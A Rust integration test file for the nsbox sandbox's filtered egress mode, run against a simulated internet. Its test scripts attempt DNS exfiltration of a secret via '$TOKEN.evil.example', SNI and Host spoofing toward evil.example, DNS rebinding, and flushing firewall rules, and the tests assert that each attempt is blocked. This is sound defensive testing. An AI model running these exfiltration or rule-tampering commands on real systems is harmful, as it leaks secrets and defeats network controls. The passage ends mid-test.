//! `--net filtered` against a fake internet (SECURITY.md, "Egress (filtered mode)"): every test
//! builds its own world (see `networld.rs`), runs nsbox in the world's "host" namespace and
//! attacks the allowlist from inside the sandbox. Nothing leaves the machine.

use std::io::{BufRead, Write};
use std::process::Stdio;

use crate::networld::*;
use crate::require_root;
use crate::support::*;

/// Lines of `out` that start with `prefix`.
fn line<'a>(out: &'a str, prefix: &str) -> &'a str {
    out.lines()
        .find(|l| l.starts_with(prefix))
        .unwrap_or_else(|| panic!("no line starting with {prefix:?} in:\n{out}"))
}

#[test]
fn filtered_allowed_names_resolve_and_serve_http_and_https() {
    require_root!();
    let w = World::start();
    let r = w.sh(
        &[
            "--allow",
            "web.allowed.example",
            "--allow",
            "goodalias.allowed.example",
        ],
        "echo v4 $(getent ahostsv4 web.allowed.example | head -1); \
         echo v6 $(getent ahostsv6 web.allowed.example | head -1); \
         echo plain $(curl -sS -m 5 http://web.allowed.example/); \
         echo tls $(curl -sS -m 5 --cacert /world/ca.pem https://web.allowed.example/whoami); \
         echo tls6 $(curl -sS -m 5 -6 --cacert /world/ca.pem https://web.allowed.example/whoami); \
         echo alias $(curl -sS -m 5 http://goodalias.allowed.example/whoami)",
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert!(line(&r.stdout, "v4").contains(WEB4), "{}", r.stdout);
    assert!(line(&r.stdout, "v6").contains(WEB6), "{}", r.stdout);
    assert_eq!(
        line(&r.stdout, "plain"),
        "plain hello from the fake internet"
    );
    assert_eq!(line(&r.stdout, "tls "), "tls host=web.allowed.example");
    assert_eq!(line(&r.stdout, "tls6"), "tls6 host=web.allowed.example");
    assert_eq!(
        line(&r.stdout, "alias"),
        "alias host=goodalias.allowed.example"
    );
}

#[test]
fn filtered_allowed_addresses_and_ports_work_and_other_ports_do_not() {
    require_root!();
    let w = World::start();
    let r = w.sh(
        &[
            "--allow",
            &format!("{TCP4}:5432"),
            "--allow",
            &format!("[{TCP6}]:5432"),
        ],
        &format!(
            "echo a $({PROBE} tcp {TCP4}:5432 hello); \
             echo b $({PROBE} tcp {TCP4}:5433); \
             echo c $({PROBE} tcp [{TCP6}]:5432 hello6); \
             echo d $({PROBE} tcp [{TCP6}]:5433); \
             echo e $({PROBE} tcp {OTHER4}:80)"
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(line(&r.stdout, "a "), "a ok hello");
    assert_eq!(line(&r.stdout, "b "), "b error ECONNREFUSED");
    assert_eq!(line(&r.stdout, "c "), "c ok hello6");
    assert_eq!(line(&r.stdout, "d "), "d error ECONNREFUSED");
    assert_eq!(line(&r.stdout, "e "), "e error ECONNREFUSED");
}

#[test]
fn filtered_git_clone_and_pip_download_work_over_https() {
    require_root!();
    let w = World::start();
    let r = w.sh(
        &["--allow", "web.allowed.example"],
        "set -e; cd /sandbox; \
         git -c http.sslCAInfo=/world/ca.pem clone -q https://web.allowed.example/repo.git repo; \
         echo git $(cat repo/README); \
         python3 -m pip download -q --no-deps --no-cache-dir --disable-pip-version-check \
           --cert /world/ca.pem --index-url https://web.allowed.example/simple/ -d dl nsbox-probe-pkg; \
         echo pip $(ls dl)",
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(line(&r.stdout, "git"), "git cloned through nsbox");
    assert_eq!(
        line(&r.stdout, "pip"),
        "pip nsbox_probe_pkg-1.0-py3-none-any.whl"
    );
}

#[test]
fn filtered_npm_registry_fetch_works_over_https() {
    require_root!();
    if std::process::Command::new("npm")
        .arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .map_or(true, |s| !s.success())
    {
        assert!(
            std::env::var("NSBOX_TEST_REQUIRE_ROOT").as_deref() != Ok("1"),
            "npm is not installed (.ci/run installs it)"
        );
        crate::support::skip(module_path!(), "npm is not installed");
        return;
    }
    let w = World::start();
    let r = w.sh(
        &["--allow", "web.allowed.example"],
        "cd /sandbox; npm view nsbox-probe-pkg version --cafile /world/ca.pem \
           --registry https://web.allowed.example/npm/ --no-update-notifier 2>&1",
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(r.stdout.trim(), "1.0.0", "{r:?}");
}

#[test]
fn filtered_names_not_allowed_do_not_resolve_and_their_addresses_are_unreachable() {
    require_root!();
    let w = World::start();
    let r = w.sh(
        &["--allow", "web.allowed.example"],
        &format!(
            "getent hosts other.example; echo getent=$?; \
             echo secret $({PROBE} dns 127.0.0.53 secret.evil.example 1); \
             echo other $({PROBE} tcp {OTHER4}:80); \
             echo before $({PROBE} tcp {WEB4}:80); \
             echo before6 $({PROBE} tcp [{WEB6}]:80); \
             getent ahostsv4 web.allowed.example >/dev/null; \
             echo after $(curl -sS -m 5 -o /dev/null -w '%{{http_code}}' http://{WEB4}/ 2>&1)"
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(line(&r.stdout, "getent="), "getent=2");
    assert_eq!(line(&r.stdout, "secret"), "secret ok rcode 5 answers 0");
    assert_eq!(line(&r.stdout, "other"), "other error ECONNREFUSED");
    // An address no allowed name resolved to (yet) is unreachable...
    assert_eq!(line(&r.stdout, "before "), "before error ECONNREFUSED");
    assert_eq!(line(&r.stdout, "before6"), "before6 error ECONNREFUSED");
    // ...and once it did, it is reached (by IP the Host check refuses it: no name).
    assert!(line(&r.stdout, "after").contains("reset"), "{}", r.stdout);
    // Refused names never reach the upstream: no DNS exfiltration.
    let log = w.dns_log();
    assert!(log.contains("web.allowed.example"), "{log}");
    assert!(!log.contains("secret"), "{log}");
    assert!(!log.contains("other.example"), "{log}");
}

#[test]
fn filtered_rebinding_answers_are_refused_unless_the_range_is_allowed() {
    require_root!();
    let w = World::start();
    let cases = [
        ("rebind10.allowed.example", 1),
        ("rebind127.allowed.example", 1),
        ("metadata.allowed.example", 1),
        ("mapped.allowed.example", 28),
        ("ula.allowed.example", 28),
        ("self.allowed.example", 1),
    ];
    let script: Vec<String> = cases
        .iter()
        .map(|(name, t)| format!("echo {name} $({PROBE} dns 127.0.0.53 {name} {t})"))
        .collect();
    let r = w.sh(&["--allow", "*.allowed.example"], &script.join("; "));
    assert_eq!(r.code, 0, "{r:?}");
    for (name, _) in cases {
        assert_eq!(
            line(&r.stdout, name),
            format!("{name} ok rcode 5 answers 0"),
            "{}",
            r.stdout
        );
    }
    // Naming the range allows it.
    let r = w.sh(
        &["--allow", "*.allowed.example", "--allow", "10.0.0.0/8"],
        &format!("{PROBE} dns 127.0.0.53 rebind10.allowed.example 1"),
    );
    assert_eq!(r.stdout.trim(), "ok rcode 0 answers 1", "{r:?}");
}

#[test]
fn filtered_cname_to_a_name_not_allowed_and_txt_any_axfr_are_refused() {
    require_root!();
    let w = World::start();
    let r = w.sh(
        &["--allow", "*.allowed.example"],
        &format!(
            "echo alias $({PROBE} dns 127.0.0.53 alias.allowed.example 1); \
             echo good $({PROBE} dns 127.0.0.53 goodalias.allowed.example 1); \
             echo txt $({PROBE} dns 127.0.0.53 txt.allowed.example 16); \
             echo any $({PROBE} dns 127.0.0.53 web.allowed.example 255); \
             echo axfr $({PROBE} dns 127.0.0.53 allowed.example 252); \
             echo dig $(dig +short +tries=1 txt.allowed.example TXT)"
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(line(&r.stdout, "alias"), "alias ok rcode 5 answers 0");
    assert_eq!(line(&r.stdout, "good"), "good ok rcode 0 answers 2");
    assert_eq!(line(&r.stdout, "txt"), "txt ok rcode 5 answers 0");
    assert_eq!(line(&r.stdout, "any"), "any ok rcode 5 answers 0");
    assert_eq!(line(&r.stdout, "axfr"), "axfr ok rcode 5 answers 0");
    assert!(!r.stdout.contains("exfiltrate-me"), "{}", r.stdout);
    assert!(!w.dns_log().contains("txt.allowed.example"));
}

#[test]
fn filtered_sni_and_host_of_names_not_allowed_are_refused_on_a_shared_address() {
    require_root!();
    let w = World::start();
    let r = w.sh(
        &["--allow", "cdn.allowed.example", "--log-network"],
        &format!(
            "getent hosts cdn.allowed.example >/dev/null; \
             echo cdn $(curl -sS -m 5 --cacert /world/ca.pem https://cdn.allowed.example/whoami); \
             curl -sS -m 5 --cacert /world/ca.pem --resolve evil.example:443:{CDN4} \
               https://evil.example/whoami; echo sni=$?; \
             curl -sS -m 5 -H 'Host: evil.example' http://cdn.allowed.example/whoami; echo host=$?; \
             curl -sS -m 5 http://{CDN4}/whoami; echo ip=$?"
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(line(&r.stdout, "cdn"), "cdn host=cdn.allowed.example");
    assert_ne!(line(&r.stdout, "sni="), "sni=0");
    assert_ne!(line(&r.stdout, "host="), "host=0");
    assert_ne!(line(&r.stdout, "ip="), "ip=0");
    assert!(
        r.stderr.contains(&format!(
            "connection refused {CDN4}:443 evil.example (TLS SNI: evil.example is not on the allowlist)"
        )),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains(&format!(
            "connection refused {CDN4}:80 evil.example (HTTP Host: evil.example is not on the allowlist)"
        )),
        "{}",
        r.stderr
    );
    // A bare address in Host names nothing: refused for that, not by accident.
    assert!(
        r.stderr.contains(&format!(
            "connection refused {CDN4}:80 (no HTTP Host name (required for an address reached by name))"
        )),
        "{}",
        r.stderr
    );
}

#[test]
fn filtered_udp_quic_and_icmp_are_blocked() {
    require_root!();
    let w = World::start();
    // The workload waits on stdin until the test has opened unprivileged ICMP sockets in the
    // sandbox's namespace, so an ICMP failure is the rules' doing, not a missing permission.
    let flags = w.filtered_flags();
    let mut args: Vec<&str> = vec!["exec", "-i"];
    args.extend(flags.iter().map(String::as_str));
    let script = format!(
        "getent hosts web.allowed.example >/dev/null; echo waiting; read go; \
         echo udp $({PROBE} udp {WEB4}:9999); \
         echo quic $({PROBE} udp {WEB4}:443); \
         echo udp6 $({PROBE} udp [{WEB6}]:9999); \
         echo dns $({PROBE} udp {DNS}:53); \
         echo icmp $({PROBE} icmp {WEB4}); \
         echo icmplo $({PROBE} icmp 127.0.0.1)"
    );
    args.extend_from_slice(&["--allow", "web.allowed.example", "--", "sh", "-c", &script]);
    let mut child = w
        .nsbox_cmd(&args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut first = String::new();
    stdout.read_line(&mut first).unwrap();
    assert_eq!(first.trim(), "waiting");
    let init = std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", child.id()))
        .unwrap()
        .split_whitespace()
        .next()
        .expect("the sandbox's init")
        .to_string();
    let opened = std::process::Command::new("nsenter")
        .arg(format!("--net=/proc/{init}/ns/net"))
        .args([
            "sh",
            "-c",
            "echo '0 2147483647' > /proc/sys/net/ipv4/ping_group_range",
        ])
        .status()
        .unwrap();
    assert!(opened.success());
    child.stdin.take().unwrap().write_all(b"go\n").unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stdout, &mut rest).unwrap();
    assert!(child.wait().unwrap().success());
    assert_eq!(line(&rest, "udp "), "udp error EPERM");
    assert_eq!(line(&rest, "quic"), "quic error EPERM");
    assert_eq!(line(&rest, "udp6"), "udp6 error EPERM");
    assert_eq!(line(&rest, "dns"), "dns error EPERM");
    assert_eq!(line(&rest, "icmp "), "icmp error EPERM");
    assert!(line(&rest, "icmplo").starts_with("icmplo ok"), "{rest}");
    assert_eq!(w.udp_log(), "", "no datagram reached the internet");
}

#[test]
fn filtered_host_services_are_unreachable() {
    require_root!();
    let w = World::start();
    // The service is there: from the host's namespace itself it answers.
    let direct = w.in_host(&[
        &probe_dir().join("probe").display().to_string(),
        "tcp",
        &format!("{HOST4}:{HOST_SERVICE_PORT}"),
    ]);
    assert_eq!(String::from_utf8_lossy(&direct.stdout).trim(), "ok ping");
    let port = HOST_SERVICE_PORT;
    let r = w.sh(
        &["--allow", "*.allowed.example", "--allow", "*"],
        &format!(
            "echo a $({PROBE} tcp {HOST4}:{port}); \
             echo b $({PROBE} tcp [{HOST6}]:{port}); \
             echo c $({PROBE} tcp 127.0.0.1:{port}); \
             echo d $({PROBE} tcp [::1]:{port}); \
             echo e $({PROBE} dns 127.0.0.53 self.allowed.example 1)"
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    // Refused at once (rejected by the rules, or nothing listens on the sandbox's own
    // loopback), not timed out or unroutable.
    for l in ["a ", "b ", "c ", "d "] {
        assert!(
            line(&r.stdout, l).ends_with("error ECONNREFUSED"),
            "{l}: {}",
            r.stdout
        );
    }
    assert_eq!(line(&r.stdout, "e "), "e ok rcode 5 answers 0");
}

#[test]
fn filtered_workload_cannot_change_the_rules_or_reach_the_upstream() {
    require_root!();
    let w = World::start();
    let r = w.sh(
        &["--allow", "web.allowed.example"],
        &format!(
            "nft list ruleset >/dev/null 2>&1; echo nft=$?; \
             nft flush ruleset >/dev/null 2>&1; echo flush=$?; \
             ip route del default >/dev/null 2>&1; echo route=$?; \
             ip route add {OTHER4}/32 dev lo >/dev/null 2>&1; echo addroute=$?; \
             ip link set lo down >/dev/null 2>&1; echo link=$?; \
             (echo nameserver {DNS} > /etc/resolv.conf) 2>/dev/null; echo resolv=$?; \
             echo upstream $({PROBE} dns {DNS} web.allowed.example 1); \
             echo proxy $({PROBE} tcp 127.0.0.1:888); \
             echo still $(curl -sS -m 5 http://web.allowed.example/)"
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    // Refused, not missing (127 would mean the tool is not there to try).
    for key in ["nft=", "flush=", "route=", "addroute=", "link=", "resolv="] {
        let status = line(&r.stdout, key).trim_start_matches(key);
        assert!(
            !matches!(status, "0" | "127"),
            "{key}{status}: {}",
            r.stdout
        );
    }
    assert_eq!(line(&r.stdout, "upstream"), "upstream error EPERM");
    assert!(
        line(&r.stdout, "proxy").starts_with("proxy error"),
        "{}",
        r.stdout
    );
    assert_eq!(
        line(&r.stdout, "still"),
        "still hello from the fake internet"
    );
}

#[test]
fn two_filtered_sandboxes_at_once_each_get_only_their_own_allowlist() {
    require_root!();
    let w = World::start();
    let flags = w.filtered_flags();
    let start = |allow: &str| {
        let mut args: Vec<&str> = vec!["exec", "-i"];
        args.extend(flags.iter().map(String::as_str));
        let script = format!(
            "echo waiting; read go; \
             echo web $(getent ahostsv4 web.allowed.example >/dev/null && echo yes || echo no); \
             echo cdn $(getent ahostsv4 cdn.allowed.example >/dev/null && echo yes || echo no); \
             echo webhttp $(curl -4 -s -o /dev/null -w '%{{http_code}}' -m 5 http://web.allowed.example/); \
             echo cdnhttp $(curl -4 -s -o /dev/null -w '%{{http_code}}' -m 5 http://cdn.allowed.example/); \
             echo webtcp $({PROBE} tcp {WEB4}:80); \
             echo cdntcp $({PROBE} tcp {CDN4}:80)"
        );
        args.extend_from_slice(&["--allow", allow, "--", "sh", "-c", &script]);
        let mut child = w
            .nsbox_cmd(&args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
        let mut first = String::new();
        out.read_line(&mut first).unwrap();
        assert_eq!(first.trim(), "waiting");
        (child, out)
    };
    let mut a = start("web.allowed.example");
    let mut b = start("cdn.allowed.example");
    // Both exist now; let them go at the same time.
    for (child, _) in [&mut a, &mut b] {
        child.stdin.take().unwrap().write_all(b"go\n").unwrap();
    }
    let finish = |(mut child, mut out): (std::process::Child, std::io::BufReader<_>)| {
        let mut rest = String::new();
        std::io::Read::read_to_string(&mut out, &mut rest).unwrap();
        assert!(child.wait().unwrap().success());
        rest
    };
    let (ra, rb) = (finish(a), finish(b));
    assert_eq!(line(&ra, "web "), "web yes");
    assert_eq!(line(&ra, "cdn "), "cdn no");
    assert_eq!(line(&ra, "webhttp"), "webhttp 200");
    assert_eq!(line(&ra, "cdnhttp"), "cdnhttp 000");
    assert_eq!(line(&ra, "cdntcp"), "cdntcp error ECONNREFUSED");
    assert_eq!(line(&rb, "web "), "web no");
    assert_eq!(line(&rb, "cdn "), "cdn yes");
    assert_eq!(line(&rb, "webhttp"), "webhttp 000");
    assert_eq!(line(&rb, "cdnhttp"), "cdnhttp 200");
    assert_eq!(line(&rb, "webtcp"), "webtcp error ECONNREFUSED");
}

#[test]
fn net_none_has_no_route_and_net_host_sees_the_host_network() {
    require_root!();
    let w = World::start();
    let mount = probe_mount();
    let run = |net: &str| -> Run {
        let mut args: Vec<&str> = vec!["exec", "--net", net];
        args.extend(mount.iter().map(String::as_str));
        let script = format!(
            "echo tcp $({PROBE} tcp {TCP4}:5432); echo routes $(tail -n +2 /proc/net/route | wc -l)"
        );
        args.extend_from_slice(&["--", "sh", "-c", &script]);
        w.nsbox_cmd(&args)
            .stdin(Stdio::null())
            .output()
            .unwrap()
            .into()
    };
    let none = run("none");
    assert_eq!(
        line(&none.stdout, "tcp"),
        "tcp error ENETUNREACH",
        "{none:?}"
    );
    assert_eq!(line(&none.stdout, "routes"), "routes 0");
    let host = run("host");
    assert_eq!(line(&host.stdout, "tcp"), "tcp ok ping", "{host:?}");
    assert_ne!(line(&host.stdout, "routes"), "routes 0");
    // Filtered: a default route through loopback only, so every packet meets the rules.
    let r = w.sh(&[], "ip -4 route; ip -6 route | grep default");
    assert_eq!(r.code, 0, "{r:?}");
    assert!(
        r.stdout
            .starts_with("default dev lo proto static scope link src 127.0.0.1"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("default dev lo"), "{}", r.stdout);
}

#[test]
fn filtered_decisions_are_events_in_the_json_stream_and_lines_with_log_network() {
    require_root!();
    let w = World::start();
    let r = w.sh(
        &["--json", "--allow", "web.allowed.example"],
        "getent hosts other.example; curl -4 -sS -m 5 http://web.allowed.example/",
    );
    assert_eq!(r.code, 0, "{r:?}");
    let events = events(&r.stdout);
    let find = |pred: &dyn Fn(&serde_json::Value) -> bool| {
        events
            .iter()
            .position(pred)
            .unwrap_or_else(|| panic!("no such event in {events:#?}"))
    };
    let refused = find(&|e| e["type"] == "dns" && e["name"] == "other.example");
    assert_eq!(events[refused]["decision"], "refused");
    assert_eq!(events[refused]["rcode"], "REFUSED");
    assert!(events[refused]["reason"]
        .as_str()
        .unwrap()
        .contains("not on the allowlist"));
    let allowed =
        find(&|e| e["type"] == "dns" && e["name"] == "web.allowed.example" && e["qtype"] == "A");
    assert_eq!(events[allowed]["decision"], "allowed");
    assert_eq!(events[allowed]["addresses"][0], WEB4);
    assert_eq!(events[allowed]["rule"], "web.allowed.example");
    assert_eq!(events[allowed]["ttl"], 60);
    let conn = find(&|e| e["type"] == "connection");
    assert_eq!(events[conn]["decision"], "allowed");
    assert_eq!(events[conn]["address"], WEB4);
    assert_eq!(events[conn]["port"], 80);
    assert_eq!(events[conn]["name"], "web.allowed.example");
    let body = find(&|e| {
        e["type"] == "stdout" && e["data"].as_str().unwrap_or("").contains("fake internet")
    });
    assert!(allowed < conn && conn < body, "in order with the output");
    assert_eq!(events.last().unwrap()["type"], "exit");

    let r = w.sh(
        &["--log-network", "--allow", "web.allowed.example"],
        "getent ahostsv4 web.allowed.example >/dev/null; getent hosts secret.evil.example",
    );
    assert!(
        r.stderr.contains(&format!(
            "nsbox: dns allowed A web.allowed.example -> {WEB4} (allowed by 'web.allowed.example')"
        )),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains(
            "nsbox: dns refused AAAA secret.evil.example -> REFUSED (secret.evil.example is not on the allowlist)"
        ),
        "{}",
        r.stderr
    );
    // Without --log-network text output stays quiet.
    let r = w.sh(
        &["--allow", "web.allowed.example"],
        "getent hosts other.example",
    );
    assert_eq!(r.stderr, "", "{r:?}");
    // A secret smuggled into a name looked up is masked in the events too.
    let r = w.sh(
        &["--json", "--secret", "TOKEN=S3cr3t-T0ken"],
        "getent hosts \"$TOKEN.evil.example\"",
    );
    assert!(
        !r.stdout.to_lowercase().contains("s3cr3t-t0ken"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains("\"name\":\"***.evil.example\""),
        "{}",
        r.stdout
    );
}

#[test]
fn filtered_relays_large_transfers_and_half_closes() {
    require_root!();
    let w = World::start();
    let bytes = 64u64 << 20;
    let r = w.sh(
        &["--allow", &format!("{TCP4}:5432")],
        &format!(
            "echo big $({PROBE} download {TCP4}:5432 {bytes}); \
             echo half $({PROBE} tcp {TCP4}:5432 'after-my-eof')"
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    let big = line(&r.stdout, "big");
    assert!(big.starts_with(&format!("big ok {bytes} ")), "{big}");
    // The echo server answers only once it has seen our end of input: the proxy passed the
    // half-close on, and then the server's close back.
    assert_eq!(line(&r.stdout, "half"), "half ok after-my-eof");
}

#[test]
fn filtered_leaves_nothing_behind_on_the_host() {
    require_root!();
    let w = World::start();
    let state = || {
        let mut s = String::new();
        for cmd in [
            &["nft", "list", "ruleset"][..],
            &["ip", "route"],
            &["ip", "-6", "route"],
            &["ip", "addr"],
            &["ss", "-Hltnu"],
        ] {
            s.push_str(&String::from_utf8_lossy(&w.in_host(cmd).stdout));
        }
        s
    };
    let before = state();
    let r = w.sh(
        &["--allow", "web.allowed.example"],
        "curl -sS -m 5 http://web.allowed.example/ >/dev/null; echo done",
    );
    assert_eq!(r.stdout.trim(), "done", "{r:?}");
    assert_eq!(
        before,
        state(),
        "rules, routes, addresses and listening sockets"
    );
    // The proxy's connection is closed (TIME-WAIT may linger: that is the kernel's).
    assert!(eventually(5.0, || {
        let out = w.in_host(&["ss", "-Htn", "state", "established"]);
        String::from_utf8_lossy(&out.stdout).trim().is_empty()
    }));
}

#[test]
fn a_killed_supervisor_takes_the_filtered_sandbox_along_and_leaves_nothing() {
    require_root!();
    let w = World::start();
    let listening = || String::from_utf8_lossy(&w.in_host(&["ss", "-Hltnu"]).stdout).into_owned();
    let before = listening();
    let flags = w.filtered_flags();
    let mut args: Vec<&str> = vec!["exec"];
    args.extend(flags.iter().map(String::as_str));
    args.extend_from_slice(&[
        "--allow",
        "web.allowed.example",
        "--",
        "sh",
        "-c",
        "curl -sS -m 5 http://web.allowed.example/ >/dev/null; echo up; exec sleep 60",
    ]);
    let mut child = w
        .nsbox_cmd(&args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut first = String::new();
    out.read_line(&mut first).unwrap();
    assert_eq!(first.trim(), "up");
    let init: i32 = std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", child.id()))
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .parse()
        .unwrap();
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(
        eventually(5.0, || !std::path::Path::new(&format!("/proc/{init}"))
            .exists()),
        "the sandbox's init outlived its supervisor"
    );
    assert_eq!(before, listening());
}

#[test]
fn filtered_upstream_defaults_to_the_hosts_resolv_conf() {
    require_root!();
    let w = World::start();
    let resolv = w.dir.path().join("resolv.conf");
    std::fs::write(&resolv, format!("nameserver {DNS}\n")).unwrap();
    let script = format!(
        "mount --bind {} /etc/resolv.conf && exec {} exec --allow web.allowed.example -- getent ahostsv4 web.allowed.example",
        resolv.display(),
        nsbox_bin().display()
    );
    let out = std::process::Command::new("nsenter")
        .arg(format!("--net=/run/netns/{}", w.host_ns))
        .args(["unshare", "-m", "sh", "-c", &script])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let r: Run = out.into();
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.stdout.contains(WEB4), "{r:?}");
}

#[test]
fn filtered_without_an_upstream_resolver_fails_before_the_command_runs() {
    require_root!();
    let w = World::start();
    let resolv = w.dir.path().join("resolv.conf");
    std::fs::write(&resolv, "# no nameserver\n").unwrap();
    let script = format!(
        "mount --bind {} /etc/resolv.conf && exec {} exec --allow web.allowed.example -- echo ran",
        resolv.display(),
        nsbox_bin().display()
    );
    let out = std::process::Command::new("nsenter")
        .arg(format!("--net=/run/netns/{}", w.host_ns))
        .args(["unshare", "-m", "sh", "-c", &script])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let r: Run = out.into();
    assert_eq!(r.code, 125, "{r:?}");
    assert!(!r.stdout.contains("ran"), "{r:?}");
    assert!(
        r.stderr.contains("no upstream DNS resolver"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("--dns-upstream"), "{}", r.stderr);
}

#[test]
fn filtered_regular_expressions_allow_whole_names() {
    require_root!();
    let w = World::start();
    let r = w.sh(
        &["--allow", r"re:(web|cdn)\.allowed\.example"],
        "for n in web.allowed.example cdn.allowed.example other.example web.allowed.example.evil; do \
           getent ahostsv4 $n >/dev/null && echo $n yes || echo $n no; done",
    );
    assert_eq!(
        r.stdout,
        "web.allowed.example yes\ncdn.allowed.example yes\nother.example no\nweb.allowed.example.evil no\n",
        "{r:?}"
    );
}

#[test]
fn filtered_with_nothing_allowed_reaches_nothing() {
    require_root!();
    let w = World::start();
    let r = w.sh(
        &[],
        &format!(
            "getent hosts web.allowed.example; echo getent=$?; echo tcp $({PROBE} tcp {WEB4}:80)"
        ),
    );
    assert_eq!(line(&r.stdout, "getent="), "getent=2", "{r:?}");
    assert_eq!(line(&r.stdout, "tcp"), "tcp error ECONNREFUSED");
}

#[test]
fn egress_flags_are_validated_before_anything_runs() {
    let r = exec(&["--allow", "exa mple.com", "--", "true"]);
    assert_eq!(r.code, 121, "a usage error");
    assert!(r.stderr.contains("--allow 'exa mple.com'"), "{}", r.stderr);
    assert!(r.stderr.contains("hint"), "{}", r.stderr);
    let r = exec(&["--net", "host", "--allow", "api.github.com", "--", "true"]);
    assert_eq!(r.code, 121, "a usage error");
    assert!(r.stderr.contains("--net filtered"), "{}", r.stderr);
    let r = exec(&["--dns-upstream", "dns.example", "--", "true"]);
    assert_eq!(r.code, 121, "a usage error");
    assert!(r.stderr.contains("--dns-upstream"), "{}", r.stderr);
    let r = exec(&["--allow", "203.0.113.7/24", "--", "true"]);
    assert!(r.stderr.contains("203.0.113.0/24"), "{}", r.stderr);
    let r: Run = std::process::Command::new(nsbox_bin())
        .args(["exec", "--allow", "api.github.com", "--", "true"])
        .env("NSBOX_EGRESS_MAX_CONNECTIONS", "0")
        .stdin(Stdio::null())
        .output()
        .unwrap()
        .into();
    assert_eq!(r.code, nsbox::exit::USAGE, "{r:?}");
    assert!(
        r.stderr.contains("NSBOX_EGRESS_MAX_CONNECTIONS='0'"),
        "{}",
        r.stderr
    );
}

/// A session keeps its filtered network across commands: the allowlist holds in every exec,
/// its decisions go to the session's network log, and stop (or a killed supervisor) leaves
/// nothing behind.
#[test]
fn filtered_session_keeps_its_allowlist_and_logs_its_decisions() {
    require_root!();
    let w = World::start();
    let run_dir = tempfile::tempdir().unwrap();
    let nsbox = |args: &[&str]| -> Run {
        w.nsbox_cmd(args)
            .env("NSBOX_RUN_DIR", run_dir.path())
            .stdin(Stdio::null())
            .output()
            .expect("run nsbox")
            .into()
    };
    let mut create: Vec<String> = vec!["create".into()];
    create.extend(w.filtered_flags());
    create.extend(
        [
            "--allow",
            "web.allowed.example",
            "--log-network",
            "--secret",
            "TOKEN=tokensecret42",
        ]
        .map(String::from),
    );
    let args: Vec<&str> = create.iter().map(String::as_str).collect();
    let r = nsbox(&args);
    assert_eq!(r.code, 0, "{r:?}");
    let id = r.stdout.trim().to_string();
    let exec = |script: &str| nsbox(&["exec", "--session", &id, "--", "sh", "-c", script]);

    let first = exec("curl -sS -m 5 http://web.allowed.example/");
    assert_eq!(
        first.stdout.trim(),
        "hello from the fake internet",
        "{first:?}"
    );
    let second = exec(
        "getent hosts other.example; echo getent=$?; getent hosts $TOKEN.evil.example; echo secret=$?",
    );
    assert_eq!(line(&second.stdout, "getent="), "getent=2", "{second:?}");
    assert_eq!(line(&second.stdout, "secret="), "secret=2", "{second:?}");
    // Once more in a later command: the policy did not loosen.
    let third = exec(&format!("{PROBE} tcp {OTHER4}:80"));
    assert_eq!(third.stdout.trim(), "error ECONNREFUSED", "{third:?}");

    let log_path = run_dir
        .path()
        .join("sessions")
        .join(&id)
        .join("network.log");
    assert!(
        eventually(5.0, || std::fs::read_to_string(&log_path)
            .is_ok_and(|l| l.contains("other.example"))),
        "{:?}",
        std::fs::read_to_string(&log_path)
    );
    let log = std::fs::read_to_string(&log_path).unwrap();
    assert!(
        log.lines()
            .any(|l| l.contains("allowed") && l.contains("web.allowed.example")),
        "{log}"
    );
    assert!(
        log.lines()
            .any(|l| l.contains("refused") && l.contains("other.example")),
        "{log}"
    );
    // One JSON event per line.
    for l in log.lines() {
        let e: serde_json::Value = serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l:?}"));
        assert!(
            matches!(e["type"].as_str(), Some("dns" | "connection")),
            "{l}"
        );
    }
    assert!(!log.contains("tokensecret42"), "secrets are masked: {log}");
    for l in log.lines() {
        let event: serde_json::Value = serde_json::from_str(l).expect("JSON lines");
        assert!(event["type"].is_string() && event["ts"].is_string(), "{l}");
    }
    assert!(log.contains("***.evil.example"), "{log}");

    // A killed supervisor takes the sandbox and its network along; prune removes the rest.
    let record: serde_json::Value = serde_json::from_slice(
        &std::fs::read(
            run_dir
                .path()
                .join("sessions")
                .join(&id)
                .join("session.json"),
        )
        .unwrap(),
    )
    .unwrap();
    let supervisor = record["supervisor_pid"].as_i64().unwrap() as i32;
    let init = record["init_pid"].as_i64().unwrap() as i32;
    let netns = std::fs::read_link(format!("/proc/{init}/ns/net")).unwrap();
    rustix::process::kill_process(
        rustix::process::Pid::from_raw(supervisor).unwrap(),
        rustix::process::Signal::KILL,
    )
    .unwrap();
    assert!(eventually(5.0, || !std::path::Path::new(&format!(
        "/proc/{init}"
    ))
    .exists()));
    let _serial = prune_lock();
    let p = nsbox(&["prune", "--min-age", "0"]);
